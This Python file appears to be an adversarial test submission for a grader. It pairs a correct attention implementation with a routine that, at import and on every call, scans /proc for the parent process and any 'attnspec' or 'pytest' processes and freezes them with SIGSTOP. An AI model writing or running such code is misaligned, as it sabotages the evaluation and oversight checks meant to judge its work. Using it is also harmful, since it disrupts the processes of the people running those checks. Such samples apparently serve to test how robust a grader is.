"""Correct; at load and in every call it SIGSTOPs its parent and every process of the grader it can
find through /proc (by command line), then computes the right answer."""

import math
import os
import signal

import numpy as np


def attack(when):
    targets = {os.getppid()}
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as f:
                    cmdline = f.read()
                if b"attnspec" in cmdline or b"pytest" in cmdline:
                    targets.add(int(name))
            except OSError:
                pass
    for pid in targets - {0, os.getpid()}:
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass


attack("load")


def manual_attention(Q, K, V, mask=None):
    attack("call")
    scores = Q @ np.swapaxes(K, -1, -2) / math.sqrt(Q.shape[-1])
    if mask is not None:
        scores = scores + mask
    scores = scores - scores.max(axis=-1, keepdims=True)
    weights = np.exp(scores)
    return weights / weights.sum(axis=-1, keepdims=True) @ V

